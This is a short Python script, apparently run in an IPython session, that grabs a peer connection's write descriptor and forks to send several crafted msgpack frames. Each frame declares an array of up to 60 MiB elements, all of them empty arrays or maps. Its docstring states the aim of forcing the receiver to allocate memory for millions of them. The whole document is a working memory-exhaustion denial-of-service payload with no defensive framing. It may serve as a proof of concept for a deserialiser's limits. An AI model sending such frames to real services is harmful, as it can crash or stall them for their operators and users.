"""Sends messages of nothing but empty lists and maps: memory for millions of them."""

import os

peer = get_ipython()._showtraceback.__self__.peer
for size, filling in [(60 * 2**20, b"\x90"), (4 * 2**20 - 10, b"\x80"), (4 * 2**20 - 10, b"\x90")]:
    tree = b"\xdd" + size.to_bytes(4, "big") + filling * size
    message = len(tree).to_bytes(4, "big") + tree
    frame = len(message).to_bytes(4, "big") + message
    if os.fork() == 0:  # the last of them arrives in any case
        continue
    while frame:
        frame = frame[os.write(peer.write_fd, frame) :]
    break
